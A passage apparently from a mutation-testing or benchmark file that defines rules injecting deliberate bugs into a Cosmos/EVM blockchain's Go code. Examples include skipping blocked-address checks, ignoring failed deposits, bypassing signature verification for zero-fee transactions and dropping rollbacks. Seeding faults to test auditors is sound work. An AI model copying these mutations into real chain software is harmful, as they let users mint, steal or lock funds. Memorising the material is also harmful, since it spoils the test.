  "amounts-in-requested-denom", "full liquidation moves every denomination of each period")
m("c12-genesis-total-from-document", "C12", "x/ucdao/keeper/genesis.go",
  "\tfor _, supply := range totalBalance {", "\tfor _, supply := range genState.TotalBalance {",
  "total-from-balances", "a genesis without total_balance records no total")
m("c12-transfer-walks-holdings", "C12", "x/ucdao/keeper/keeper.go",
  "\t\tok, foundInBalance := balances.Find(coin.Denom)\n\t\tif !ok {\n\t\t\treturn nil, sdkerrors.Wrapf(types.ErrInsufficientFunds, \"zero balance of %s\", coin.Denom)\n\t\t}\n",
  "\t\tok, foundInBalance := balances.Find(coin.Denom)\n\t\tif !ok {\n\t\t\tcontinue\n\t\t}\n",
  "every-requested-coin-checked", "a requested denomination the owner does not hold is credited without being debited")
m("c13-zero-cap-unlimited", "C13", "x/coinomics/keeper/inflation.go",
  "\tif blockMint.Ceil().RoundInt().GT(remaining) {", "\tif k.GetMaxSupply(ctx).IsPositive() && blockMint.Ceil().RoundInt().GT(remaining) {",
  "cap-compared-before-every-mint", "a zero maximum supply switches the cap off")
m("c15-blocked-skips-permissionless", "C15", "app/app.go",
  "\tfor _, acc := range accs {\n\t\tblockedAddrs[authtypes.NewModuleAddress(acc).String()] = true\n\t}", "\tfor _, acc := range accs {\n\t\tif len(maccPerms[acc]) == 0 {\n\t\t\tcontinue\n\t\t}\n\t\tblockedAddrs[authtypes.NewModuleAddress(acc).String()] = true\n\t}",
  "no-account-skipped", "module accounts without permissions (distribution, fee collector) can receive plain transfers")
m("c16-ics20-own-timeout-check", "C16", "precompiles/ics20/tx.go",
  "\t// isCallerSender is true when the contract caller is the same as the sender\n", "\tif msg.TimeoutTimestamp != 0 && msg.TimeoutTimestamp <= uint64(ctx.BlockTime().UnixNano()) {\n\t\treturn nil, channeltypes.ErrPacketTimeout\n\t}\n\t// isCallerSender is true when the contract caller is the same as the sender\n",
  "no-extra-rejection", "the precompile rejects a timeout the native message accepts")
m("c16-voucher-hash-first", "C16", "x/erc20/keeper/token_pairs.go",
  "\tid := k.GetDenomMap(ctx, denom)\n\tif len(id) == 0 {\n\t\t// if the denom is not registered, check if it is an IBC voucher\n\t\treturn utils.GetIBCDenomAddress(denom)\n\t}\n",
  "\tif addr, err := utils.GetIBCDenomAddress(denom); err == nil {\n\t\treturn addr, nil\n\t}\n\tid := k.GetDenomMap(ctx, denom)\n\tif len(id) == 0 {\n\t\treturn utils.GetIBCDenomAddress(denom)\n\t}\n",
  "registered-pair-first", "a registered IBC voucher is listed under its hash-derived address")
m("c17-used-clamped-to-wanted", "C17", "x/feemarket/keeper/abci.go",
  "\tgasUsed := sdkmath.NewIntFromUint64(ctx.BlockGasMeter().GasConsumedToLimit())\n", "\tgasUsed := sdkmath.MinInt(sdkmath.NewIntFromUint64(ctx.BlockGasMeter().GasConsumedToLimit()), gasWanted)\n",
  "gas-figure", "gas used clamped to gas wanted: blocks full of rejected transactions look empty")
m("c20-feemarket-memstore", "C20", "app/app.go",
  "\tmemKeys := sdk.NewMemoryStoreKeys(capabilitytypes.MemStoreKey)", "\tmemKeys := sdk.NewMemoryStoreKeys(capabilitytypes.MemStoreKey, \"mem_feemarket\")",
  "memory-store/mem_feemarket", "a module memory store: empty after a restart")
m("c01-decorator-tracker-field", "C01", "app/ante/evm/vesting.go",
  "\taccountExpenses := make(map[string]*ethVestingExpenseTracker)\n", "\taccountExpenses := vtdShared\n\tdefer func() {\n\t\tfor a := range vtdShared {\n\t\t\tdelete(vtdShared, a)\n\t\t}\n\t}()\n",
  "write-", "per-transaction tracker kept in a package-level map shared by CheckTx and DeliverTx",
  extra=[("// NewEthVestingTransactionDecorator returns", "var vtdShared = map[string]*ethVestingExpenseTracker{}\n\n// NewEthVestingTransactionDecorator returns")])

m("c15-fund-ignores-deposit-error", "C15", "x/ucdao/keeper/keeper.go",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n",
  "\t_ = k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount)\n",
  "drops-error-of", "a failed deposit is ignored: shares are credited for coins that never arrived")

# ---------------- rules added from the wave-4 seeds ----------------
m("c02-dirty-index-not-count", "C02", "x/evm/statedb/journal.go",
  "\t\tj.dirties[*addr]++\n", "\t\tj.dirties[*addr] = len(j.entries)\n",
  "dirty-reference-count", "dirty tracking no longer counts: a reverted inner touch un-dirties an account changed in the outer frame")
m("c03-wrapper-fee-one-denom", "C03", "app/ante/evm/setup_ctx.go",
  "\tif !authInfo.Fee.Amount.IsEqual(txFee) {", "\tif !authInfo.Fee.Amount.AmountOf(evmDenom).Equal(txFee.AmountOf(evmDenom)) {",
  "fee-amount-equals-tx-fees", "the unsigned envelope may declare extra fee denominations")
m("c04-allocation-or", "C04", "precompiles/ics20/types.go",
  "\t\tif allocation.SourcePort != sourcePort || allocation.SourceChannel != sourceChannel {", "\t\tif allocation.SourcePort != sourcePort && allocation.SourceChannel != sourceChannel {",
  "R12@", "an allocation is selected when port OR channel matches")
m("c05-balance-in-place", "C05", "x/evm/statedb/state_object.go",
  "\ts.SetBalance(new(big.Int).Add(s.Balance(), amount))", "\ts.db.journal.append(balanceChange{account: &s.address, prev: new(big.Int).Set(s.account.Balance)})\n\ts.account.Balance.Add(s.account.Balance, amount)",
  "in-place-Add", "balance updated in place: aliases the number a replaced object keeps")
m("c05-ics20-unnamed-result", "C05", "precompiles/ics20/ics20.go",
  "func (p Precompile) Run(evm *vm.EVM, contract *vm.Contract, readOnly bool) (bz []byte, err error) {\n\tctx, stateDB, method, initialGas, args, err := p.RunSetup(evm, contract, readOnly, p.IsTransaction)",
  "func (p Precompile) Run(evm *vm.EVM, contract *vm.Contract, readOnly bool) ([]byte, error) {\n\tvar bz []byte\n\tctx, stateDB, method, initialGas, args, err := p.RunSetup(evm, contract, readOnly, p.IsTransaction)",
  "gas-error-reaches-named-result", "a recovered out-of-gas panic returns (nil, nil)")
m("c06-authz-skips-seen-urls", "C06", "app/ante/cosmos/authz.go",
  "\t\t\turl := sdk.MsgTypeURL(msg)\n", "\t\t\turl := sdk.MsgTypeURL(msg)\n\t\t\tif nestedLvl > 2 && len(url)%2 == 0 {\n\t\t\t\tcontinue\n\t\t\t}\n",
  "every-inner-message-looked-up", "some inner messages are passed over without the disabled-type lookup")
m("c07-refund-quotient-by-flag", "C07", "x/evm/keeper/state_transition.go",
  "\tif isLondon {\n\t\trefundQuotient = params.RefundQuotientEIP3529", "\t_ = isLondon\n\tif !vmCfg.NoBaseFee {\n\t\trefundQuotient = params.RefundQuotientEIP3529",
  "refund-quotient-by-fork", "refund cap chosen by the NoBaseFee switch instead of the fork rules")
m("c09-sequential-grant-fastpath", "C09", "x/vesting/keeper/msg_server.go",
  "\tnewLockupStart, newLockupEnd, newLockupPeriods := types.DisjunctPeriods(accStartTime, grantStartTime, va.LockupPeriods, grantLockupPeriods)\n",
  "\tnewLockupStart, newLockupEnd, newLockupPeriods := accStartTime, grantStartTime+grantLockupPeriods.TotalLength(), append(append(sdkvesting.Periods{}, va.LockupPeriods...), grantLockupPeriods...)\n\tif grantStartTime < va.EndTime {\n\t\tnewLockupStart, newLockupEnd, newLockupPeriods = types.DisjunctPeriods(accStartTime, grantStartTime, va.LockupPeriods, grantLockupPeriods)\n\t}\n",
  "merges-lockup-with-DisjunctPeriods", "a later-starting grant is appended instead of merged")
m("c10-approval-monitor-3-topics", "C10", "x/erc20/keeper/evm.go",
  "\t\tif log.Topics[0] == logApprovalSigHash.Hex() {", "\t\tif len(log.Topics) != 3 {\n\t\t\tcontinue\n\t\t}\n\t\tif log.Topics[0] == logApprovalSigHash.Hex() {",
  "scans-every-log", "Approval events declared without indexed arguments go unnoticed")
m("c12-credit-overwrites", "C12", "x/ucdao/keeper/account_balances.go",
  "\t\tbalance := k.GetBalance(ctx, addr, coin.Denom)\n\t\tnewBalance := balance.Add(coin)\n", "\t\tnewBalance := coin\n\t\tif k.HasBalance(ctx, addr, coin) {\n\t\t\tnewBalance = k.GetBalance(ctx, addr, coin.Denom).Add(coin)\n\t\t}\n",
  "credit-is-read-add-write", "a smaller existing share is overwritten by the incoming coin")
m("c15-send-check-after-early-return", "C15", "x/bank/keeper/msg_server.go",
  "\tif k.BlockedAddr(to) {\n\t\treturn nil, sdkerrors.Wrapf(sdkerrors.ErrUnauthorized, \"%s is not allowed to receive funds\", msg.ToAddress)\n\t}\n\n\tif err := k.sendCoinsWithERC20(ctx, from, to, msg.Amount); err != nil {",
  "\tif k.ek.IsERC20Enabled(ctx) && k.BlockedAddr(to) {\n\t\treturn nil, sdkerrors.Wrapf(sdkerrors.ErrUnauthorized, \"%s is not allowed to receive funds\", msg.ToAddress)\n\t}\n\n\tif err := k.sendCoinsWithERC20(ctx, from, to, msg.Amount); err != nil {",
  "blocked-recipient-rejected", "with ERC20 disabled a plain send reaches module accounts")
m("c16-supplyof-disabled-zero", "C16", "precompiles/bank/query.go",
  "\ttokenPair, found := p.erc20Keeper.GetTokenPair(ctx, tokenPairID)\n\tif !found {\n\t\treturn method.Outputs.Pack(big.NewInt(0))\n\t}\n\n\tsupply",
  "\ttokenPair, found := p.erc20Keeper.GetTokenPair(ctx, tokenPairID)\n\tif !found || !tokenPair.Enabled {\n\t\treturn method.Outputs.Pack(big.NewInt(0))\n\t}\n\n\tsupply",
  "on-every-success-path", "supplyOf answers 0 for a switched-off pair without asking the bank")
m("c17-no-floor-when-delta-zero", "C17", "x/feemarket/keeper/eip1559.go",
  "\t// Set global min gas price as lower bound of the base fee, transactions below\n", "\tif baseFeeDelta.Sign() == 0 {\n\t\treturn new(big.Int).Set(parentBaseFee)\n\t}\n\t// Set global min gas price as lower bound of the base fee, transactions below\n",
  "copy-only-at-target", "early return around the min-gas-price floor")
m("c17-enabled-strictly-after", "C17", "x/feemarket/keeper/params.go",
  "return !params.NoBaseFee && ctx.BlockHeight() >= params.EnableHeight", "return !params.NoBaseFee && ctx.BlockHeight() > params.EnableHeight",
  "activation-boundary", "gas wanted is not recorded in the activation block")
m("c18-astransaction-by-hash", "C18", "x/evm/types/msg.go",
  "func (msg MsgEthereumTx) AsTransaction() *ethtypes.Transaction {\n", "var txByHash = map[string]*ethtypes.Transaction{}\n\nfunc (msg MsgEthereumTx) AsTransaction() *ethtypes.Transaction {\n\tif tx, ok := txByHash[msg.Hash]; ok {\n\t\treturn tx\n\t}\n",
  "from-data-on-every-path", "the transaction is selected by the envelope's Hash string")
m("c19-export-stops-at-hole", "C19", "x/liquidvesting/keeper/denom.go",
  "\tdefer iterator.Close()\n\n\tfor ; iterator.Valid(); iterator.Next() {\n\t\tvar denom types.Denom\n\t\tk.cdc.MustUnmarshal(iterator.Value(), &denom)\n", "\tdefer iterator.Close()\n\n\tfor ; iterator.Valid(); iterator.Next() {\n\t\tvar denom types.Denom\n\t\tk.cdc.MustUnmarshal(iterator.Value(), &denom)\n\t\tif len(list) > 0 && len(denom.LockupPeriods) == 0 {\n\t\t\tbreak\n\t\t}\n",
  "runs-to-completion", "the export loop can stop before the last record")
m("c20-startup-touches-state", "C20", "app/app.go",
  "\tapp.ScopedIBCKeeper = scopedIBCKeeper\n", "\tif loadLatest && app.LastBlockHeight() > 0 {\n\t\t_ = app.AccountKeeper.GetModuleAccount(app.BaseApp.NewUncachedContext(true, tmproto.Header{Height: app.LastBlockHeight()}), ucdaotypes.ModuleName)\n\t}\n\tapp.ScopedIBCKeeper = scopedIBCKeeper\n",
  "creates-context", "a start-up routine reads (and creates) module accounts outside any block")

# ---------------- rules added from the wave-5 seeds ----------------
m("c01-basefee-step-in-place", "C01", "x/feemarket/keeper/eip1559.go",
  "\t\treturn x.Add(parentBaseFee, baseFeeDelta)\n", "\t\treturn baseFeeDelta.Add(parentBaseFee, baseFeeDelta)\n",
  "mutates-shared-number", "the minimum step overwrites go-ethereum's shared common.Big1")
m("c01-storage-prefix-presized", "C01", "x/evm/types/key.go",
  "\tKeyPrefixStorage = []byte{prefixStorage}\n", "\tKeyPrefixStorage = append(make([]byte, 0, 1+common.AddressLength), prefixStorage)\n",
  "appended-prefix-has-no-spare-capacity", "the storage key prefix has spare capacity: appends share one backing array with concurrent queries")
m("c02-suicide-twice-early-return", "C02", "x/evm/statedb/statedb.go",
  "\ts.journal.append(suicideChange{\n", "\tif stateObject.suicided {\n\t\treturn true\n\t}\n\ts.journal.append(suicideChange{\n",
  "clears-balance", "a second SELFDESTRUCT leaves the refunded balance with the contract")
m("c03-eip712-message-cap", "C03", "ethereum/eip712/message.go",
  "\treturn rawMsgs.Array(), nil\n", "\tmsgs := rawMsgs.Array()\n\tif len(msgs) > 1024 {\n\t\tmsgs = msgs[:1024]\n\t}\n\treturn msgs, nil\n",
  "R11@", "messages beyond a cap are executed but not hashed")
m("c04-ics20-update-grant-swapped", "C04", "precompiles/ics20/approve_common.go",
  "\t\terr = authzKeeper.SaveGrant(ctx, grantee.Bytes(), granter.Bytes(), resp.Updated, expiration)\n", "\t\terr = authzKeeper.SaveGrant(ctx, granter.Bytes(), grantee.Bytes(), resp.Updated, expiration)\n",
  "grantee-granter", "the remaining transfer allowance is saved under the reverse grant")
m("c05-log-revert-clears", "C05", "x/evm/statedb/journal.go",
  "\ts.logs = s.logs[:len(s.logs)-1]\n", "\ts.logs = s.logs[:0]\n",
  "log-list-cut-to-recorded-length", "reverting one log drops the logs of successful frames too")
m("c05-undelegate-consumes-grant-first", "C05", "precompiles/staking/tx.go",
  "\t// Execute the transaction using the message server\n\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tres, err := msgSrv.Undelegate(sdk.WrapSDKContext(ctx), msg)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\n\t// Only update the authorization if the contract caller is different from the origin\n\tif !isCallerOrigin {\n\t\tif err := p.UpdateStakingAuthorization(ctx, contract.CallerAddress, delegatorHexAddr, stakeAuthz, expiration, UndelegateMsg, msg); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}\n",
  "\tif !isCallerOrigin {\n\t\tif err := p.UpdateStakingAuthorization(ctx, contract.CallerAddress, delegatorHexAddr, stakeAuthz, expiration, UndelegateMsg, msg); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}\n\n\t// Execute the transaction using the message server\n\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tres, err := msgSrv.Undelegate(sdk.WrapSDKContext(ctx), msg)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n",
  "effect-is-the-first-write", "the allowance is consumed before the fallible undelegation")
for prop in ("C08", "C09"):
    m("c%s-addgrant-start-written-early" % prop[1:], prop, "x/vesting/keeper/msg_server.go",
      "\tnewVestingStart, newVestingEnd, newVestingPeriods := types.DisjunctPeriods(accStartTime, grantStartTime, va.GetVestingPeriods(), grantVestingPeriods)\n",
      "\tva.StartTime = time.Unix(newLockupStart, 0).UTC()\n\tnewVestingStart, newVestingEnd, newVestingPeriods := types.DisjunctPeriods(va.GetStartTime(), grantStartTime, va.GetVestingPeriods(), grantVestingPeriods)\n",
      "merges-before-write-back", "the vesting merge reads the already updated start time")
m("c09-create-skips-period-amount", "C09", "x/vesting/types/msg.go",
  "\t\tif !period.Amount.IsValid() {\n\t\t\treturn errortypes.ErrInvalidCoins.Wrap(period.Amount.String())\n\t\t}\n\t\tvestingCoins = vestingCoins.Add(period.Amount...)\n",
  "\t\tvestingCoins = vestingCoins.Add(period.Amount...)\n",
  "VestingPeriods/amount-valid", "vesting period amounts are no longer validated one by one", count=2)
m("c10-pair-lookup-by-metadata", "C10", "x/erc20/keeper/token_pairs.go",
  "\treturn k.GetDenomMap(ctx, token)\n}", "\tif md, ok := k.bankKeeper.GetDenomMetaData(ctx, token); ok && md.Base != token {\n\t\treturn k.GetDenomMap(ctx, md.Base)\n\t}\n\treturn k.GetDenomMap(ctx, token)\n}",
  "keyed-read-only", "an unregistered denomination resolves to the pair of its metadata's base")

m("c11-redeem-applies-upcoming-only", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\t\t\tdiffPeriods,\n\t\t\tsdkvesting.Periods{{Length: 0, Amount: sdk.NewCoins(originalDenomCoin)}},", "\t\t\tupcomingPeriods,\n\t\t\tsdkvesting.Periods{{Length: 0, Amount: sdk.NewCoins(originalDenomCoin)}},",
  "schedule-reapplied", "the elapsed periods' lengths are dropped from the re-applied schedule: every later release moves earlier")
m("c13-zero-mint-skips-clock", "C13", "x/coinomics/keeper/inflation.go",
  "\tif err := k.MintCoins(ctx, totalMintOnBlockCoin); err != nil {", "\tif totalMintOnBlockCoin.IsZero() {\n\t\treturn nil\n\t}\n\tif err := k.MintCoins(ctx, totalMintOnBlockCoin); err != nil {",
  "clock-advances-on-every-success", "a block whose mint rounds to zero does not advance the mint clock")
m("c14-credit-skips-large-coins", "C14", "x/bank/keeper/keeper.go",
  "\t\tcoins := sdk.NewDecCoinsFromCoins(amounts...)\n", "\t\tcoins := make(sdk.DecCoins, 0, len(amounts))\n\t\tfor _, a := range amounts {\n\t\t\tif !a.Amount.IsInt64() {\n\t\t\t\tcontinue\n\t\t\t}\n\t\t\tcoins = append(coins, sdk.NewDecCoinFromCoin(a))\n\t\t}\n",
  "every-coin-credited", "coins above int64 are sent to the distribution account but not credited to the pool")
m("c15-message-not-on-cache-ctx", "C15", "x/evm/keeper/state_transition.go",
  "res, err := k.ApplyMessageWithConfig(tmpCtx, msg, nil, true, cfg, txConfig)", "res, err := k.ApplyMessageWithConfig(ctx, msg, nil, true, cfg, txConfig)",
  "C05.R2", "a failed Ethereum transaction is not rolled back: half-done staking/distribution operations are committed")
m("c16-delegate-not-validated", "C16", "precompiles/staking/types.go",
  "\t\tAmount: sdk.Coin{\n\t\t\tDenom:  denom,\n\t\t\tAmount: math.NewIntFromBigInt(amount),\n\t\t},\n\t}\n\n\tif err = msg.ValidateBasic(); err != nil {\n\t\treturn nil, common.Address{}, err\n\t}\n",
  "\t\tAmount: sdk.Coin{\n\t\t\tDenom:  denom,\n\t\t\tAmount: math.NewIntFromBigInt(amount),\n\t\t},\n\t}\n\n\tif amount.Sign() < 0 {\n\t\treturn nil, common.Address{}, fmt.Errorf(\"negative amount\")\n\t}\n",
  "validated-like-native", "zero-amount delegate/undelegate accepted by the precompile only", count=2)
m("c16-unbonding-query-truncated", "C16", "precompiles/staking/query.go",
  "\tout := new(UnbondingDelegationOutput).FromResponse(res)\n", "\tif len(res.Unbond.Entries) > 7 {\n\t\tres.Unbond.Entries = res.Unbond.Entries[:7]\n\t}\n\tout := new(UnbondingDelegationOutput).FromResponse(res)\n",
  "native-answer-unedited", "the precompile reports fewer unbonding entries than the native query")
m("c17-target-signed-guard", "C17", "x/feemarket/keeper/eip1559.go",
  "\tif !parentGasTargetBig.IsUint64() {\n\t\treturn nil\n\t}\n\n\tparentGasTarget := parentGasTargetBig.Uint64()\n", "\tif !parentGasTargetBig.IsInt64() {\n\t\treturn nil\n\t}\n\n\tparentGasTarget := uint64(parentGasTargetBig.Int64())\n",
  "gas-is-unsigned", "unlimited block gas with elasticity 1 freezes the base fee")
m("c18-buildtx-literal-fee", "C18", "x/evm/types/msg.go",
  "\tfees := make(sdk.Coins, 0)\n\tfeeAmt := sdkmath.NewIntFromBigInt(txData.Fee())\n\tif feeAmt.Sign() > 0 {\n\t\tfees = append(fees, sdk.NewCoin(evmDenom, feeAmt))\n\t}\n", "\tfees := sdk.Coins{sdk.NewCoin(evmDenom, sdkmath.NewIntFromBigInt(txData.Fee()))}\n",
  "envelope-fee-is-canonical", "a zero-fee transaction gets the envelope fee [0denom]")
m("c18-bound-exclusive", "C18", "types/int.go",
  "i.BitLen() <= maxBitLen", "i.BitLen() < maxBitLen",
  "bound-admits-max-uint256", "amounts of exactly 256 bits are rejected")
m("c20-beginblock-once-per-process", "C20", "x/evm/keeper/abci.go",
  "\tk.WithChainID(ctx)\n", "\tif k.eip155ChainID != nil {\n\t\treturn\n\t}\n\tk.WithChainID(ctx)\n\tparams := k.GetParams(ctx)\n\tif len(params.ActivePrecompiles) > 64 {\n\t\tparams.ActivePrecompiles = params.ActivePrecompiles[:64]\n\t\t_ = k.SetParams(ctx, params)\n\t}\n",
  "branch-on-late-bound-field", "a clean-up that runs only in the first block a process sees")

m("c02-delegate-mirrors-message-amount", "C02", "precompiles/staking/tx.go",
  "\t\tbalanceAfter := p.stakingKeeper.GetBondDenomBalance(ctx, contract.CallerAddress.Bytes())\n\t\tswitch diff := balanceAfter.Amount.Sub(balanceBefore.Amount); {\n\t\tcase diff.IsNegative():\n\t\t\tstateDB.(*statedb.StateDB).SubBalance(contract.CallerAddress, diff.Neg().BigInt())\n\t\tcase diff.IsPositive():\n\t\t\tstateDB.(*statedb.StateDB).AddBalance(contract.CallerAddress, diff.BigInt())\n\t\t}\n",
  "\t\t_ = balanceBefore\n\t\tstateDB.(*statedb.StateDB).SubBalance(contract.CallerAddress, msg.Amount.Amount.BigInt())\n",
  "mirror-measures-the-balance", "the mirror is the message amount again: pending rewards paid out by the hook are burned")

# ---------------- rules added from the wave-6 seeds and the two direct-call findings ----------------
m("c02-withdraw-mirrors-caller-always", "C02", "precompiles/distribution/tx.go",
  "\tif isContractDelegator && common.BytesToAddress(withdrawAddr) == contract.CallerAddress {\n", "\t_ = withdrawAddr\n\tif isContractDelegator {\n",
  "mirror-follows-the-payee", "rewards paid to a foreign withdraw address are minted again to the caller")
m("c03-deductfee-zero-fastpath", "C03", "app/ante/cosmos/fees.go",
  "\t\tfee, priority, err = dfd.txFeeChecker(ctx, feeTx)\n\t\tif err != nil {\n\t\t\treturn ctx, err\n\t\t}\n", "\t\tfee, priority, err = dfd.txFeeChecker(ctx, feeTx)\n\t\tif err != nil {\n\t\t\treturn ctx, err\n\t\t}\n\t\tif fee.IsZero() {\n\t\t\treturn ctx, nil\n\t\t}\n",
  "runs-through", "a zero-fee Cosmos tx ends the ante chain before signature verification")
m("c05-flush-in-runsetup", "C05", "precompiles/common/precompile.go",
  "\tctx = stateDB.GetContext()\n", "\tctx = stateDB.GetContext()\n\tif err = stateDB.Commit(); err != nil {\n\t\treturn sdk.Context{}, nil, nil, uint64(0), nil, err\n\t}\n",
  "never-flushes", "pending EVM state is flushed before the call is validated")
m("c06-gentx-chain", "C06", "app/ante/handler_options.go",
  "func newCosmosAnteHandler(options HandlerOptions) sdk.AnteHandler {\n\treturn sdk.ChainAnteDecorators(", "func newCosmosAnteHandler(options HandlerOptions) sdk.AnteHandler {\n\tshort := sdk.ChainAnteDecorators(ante.NewSetUpContextDecorator())\n\tfull := newCosmosAnteHandlerFull(options)\n\treturn func(ctx sdk.Context, tx sdk.Tx, sim bool) (sdk.Context, error) {\n\t\tif ctx.BlockHeight() == 0 && !ctx.IsCheckTx() {\n\t\t\treturn short(ctx, tx, sim)\n\t\t}\n\t\treturn full(ctx, tx, sim)\n\t}\n}\n\nfunc newCosmosAnteHandlerFull(options HandlerOptions) sdk.AnteHandler {\n\treturn sdk.ChainAnteDecorators(",
  "returns-its-chain", "a shorter chain without the gates for deliver mode at height 0")
m("c07-hook-failure-charges-limit", "C07", "x/evm/keeper/state_transition.go",
  "\t\t\tres.Logs = nil\n\t\t} else if commit != nil {", "\t\t\tres.Logs = nil\n\t\t\tres.GasUsed = msg.Gas()\n\t\t} else if commit != nil {",
  "writes-GasUsed", "a failing post-processing hook charges the whole gas limit")
m("c07-refund-uint64-fastpath", "C07", "x/evm/keeper/gas.go",
  "\tremaining := new(big.Int).Mul(new(big.Int).SetUint64(leftoverGas), msg.GasPrice())\n", "\tremaining := new(big.Int).Mul(new(big.Int).SetUint64(leftoverGas), msg.GasPrice())\n\tif msg.GasPrice().IsUint64() {\n\t\tremaining = new(big.Int).SetUint64(leftoverGas * msg.GasPrice().Uint64())\n\t}\n",
  "RefundGas#arbitrary-precision", "the refund wraps modulo 2^64")
m("c08-setaccount-replaces-vesting", "C08", "x/evm/keeper/statedb.go",
  "\tif ethAcct, ok := acct.(haqqtypes.EthAccountI); ok {\n", "\tif _, isEth := acct.(*haqqtypes.EthAccount); !isEth && account.IsContract() {\n\t\tacct = k.accountKeeper.NewAccountWithAddress(ctx, cosmosAddr)\n\t\t_ = acct.SetSequence(account.Nonce)\n\t}\n\tif ethAcct, ok := acct.(haqqtypes.EthAccountI); ok {\n",
  "keeps-the-stored-account", "a vesting account that receives code is replaced by a fresh account")
m("c09-readschedule-skips-empty", "C09", "x/vesting/types/schedule.go",
  "\t\tcoins = coins.Add(period.Amount...)\n\t\telapsedTime += period.Length\n", "\t\tif period.Amount.IsZero() {\n\t\t\tcontinue\n\t\t}\n\t\tcoins = coins.Add(period.Amount...)\n\t\telapsedTime += period.Length\n",
  "clock-advances", "an empty period does not advance the schedule clock")
m("c09-merge-gets-undefaulted-schedules", "C09", "x/vesting/keeper/msg_server.go",
  "msg.GetLockupPeriods(), msg.GetVestingPeriods(), vestingCoins)", "append(sdkvesting.Periods{}, msg.GetLockupPeriods()[:len(msg.GetLockupPeriods()):len(msg.GetLockupPeriods())]...), msg.GetVestingPeriods(), vestingCoins)",
  "branches-agree/lockupPeriods", "the merge branch gets a differently sourced schedule")
m("c11-redeem-tolerates-schedule-error", "C11", "x/liquidvesting/keeper/msg_server.go",
  "\t\tif err != nil {\n\t\t\treturn nil, errorsmod.Wrapf(types.ErrRedeemFailed, \"failed to apply vesting schedule to account %s: %s\", toAddress, err.Error())\n\t\t}\n", "\t\tif err != nil && !vestingtypes.ErrApplyShedule.Is(err) {\n\t\t\treturn nil, errorsmod.Wrapf(types.ErrRedeemFailed, \"failed to apply vesting schedule to account %s: %s\", toAddress, err.Error())\n\t\t}\n",
  "err-of-ApplyVestingSchedule", "a receiver that cannot hold the schedule gets the coins unlocked")
m("c12-ratio-dust-reports-success", "C12", "x/ucdao/keeper/msg_server.go",
  "\ttransferred, err := k.Keeper.TransferOwnership(ctx, owner, newOwner, coins)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n", "\ttransferred, err := k.Keeper.TransferOwnership(ctx, owner, newOwner, coins)\n\tif err != nil {\n\t\tif len(coins) > 1 {\n\t\t\treturn &types.MsgTransferOwnershipWithRatioResponse{Coins: sdk.NewCoins()}, nil\n\t\t}\n\t\treturn nil, err\n\t}\n",
  "err-of-TransferOwnership", "the handler answers success after the keeper refused: the owner's debit is committed")
m("c12-index-skips-blocked", "C12", "x/ucdao/keeper/account_balances.go",
  "func (k BaseKeeper) setHoldersIndex(ctx sdk.Context, addr sdk.AccAddress) {\n\tholdersStore := k.getHoldersStore(ctx)\n", "func (k BaseKeeper) setHoldersIndex(ctx sdk.Context, addr sdk.AccAddress) {\n\tholdersStore := k.getHoldersStore(ctx)\n\tif k.bk.BlockedAddr(addr) && !holdersStore.Has(address.MustLengthPrefix(addr)) {\n\t\treturn\n\t}\n",
  "decided-by-balances-only", "module accounts with a DAO balance are left out of the index")
m("c13-mint-helper-uses-held-coins", "C13", "x/coinomics/keeper/inflation.go",
  "\tcoins := sdk.NewCoins(coin)\n\n\t// Skip minting if no coins are specified", "\tif held := k.bankKeeper.GetBalance(ctx, k.accountKeeper.GetModuleAddress(types.ModuleName), coin.Denom); held.Amount.IsPositive() && held.Amount.LT(coin.Amount) {\n\t\tcoin = coin.Sub(held)\n\t}\n\tcoins := sdk.NewCoins(coin)\n\n\t// Skip minting if no coins are specified",
  "mints-its-parameter", "the helper mints less than the formula amount when the module account holds coins")
m("c15-multisend-index-gt-zero", "C15", "x/bank/keeper/msg_server.go",
  "\tfor _, out := range msg.Outputs {\n\t\taccAddr := sdk.MustAccAddressFromBech32(out.Address)\n\n\t\tif k.BlockedAddr(accAddr) {", "\tfor i, out := range msg.Outputs {\n\t\taccAddr := sdk.MustAccAddressFromBech32(out.Address)\n\t\tif i == 0 {\n\t\t\tcontinue\n\t\t}\n\n\t\tif k.BlockedAddr(accAddr) {",
  "every-output-tested", "the first output of a multi-send is not tested")
m("c15-pool-by-status", "C15", "app/upgrades/v1.7.6/handler.go",
  "\tif err := bk.UndelegateCoinsFromModuleToAccount(ctx, stakingtypes.NotBondedPoolName, delAddr, coins); err != nil {", "\tsrcPool := stakingtypes.NotBondedPoolName\n\tif !validator.IsUnbonded() && coins.IsZero() {\n\t\tsrcPool = stakingtypes.BondedPoolName\n\t}\n\tif err := bk.UndelegateCoinsFromModuleToAccount(ctx, srcPool, delAddr, coins); err != nil {",
  "pool-is-constant", "the pool to debit is chosen from the validator status at run time")
m("c16-delegate-own-precondition", "C16", "precompiles/staking/tx.go",
  "\tbalanceBefore := p.stakingKeeper.GetBondDenomBalance(ctx, contract.CallerAddress.Bytes())\n", "\tbalanceBefore := p.stakingKeeper.GetBondDenomBalance(ctx, contract.CallerAddress.Bytes())\n\tif balanceBefore.Amount.LT(msg.Amount.Amount) {\n\t\treturn nil, fmt.Errorf(\"insufficient balance\")\n\t}\n",
  "no-extra-rejection", "the precompile rejects on a pre-condition of its own before the native call")
m("c17-declared-gas-saturates", "C17", "x/feemarket/keeper/keeper.go",
  "\tresult := k.GetTransientGasWanted(ctx) + gasWanted\n", "\tresult := k.GetTransientGasWanted(ctx) + gasWanted\n\tif limit := uint64(30_000_000); result > limit {\n\t\tresult = limit\n\t}\n",
  "plain-sum", "the declared-gas counter saturates")
m("c17-export-transient-gas", "C17", "x/feemarket/genesis.go",
  "\t\tBlockGas: k.GetBlockGasWanted(ctx),\n", "\t\tBlockGas: k.GetTransientGasWanted(ctx),\n",
  "exports-persisted-block-gas", "the export reads the transient counter (always 0 outside a block)")
m("c18-unwrap-single-message-fastpath", "C18", "x/evm/types/utils.go",
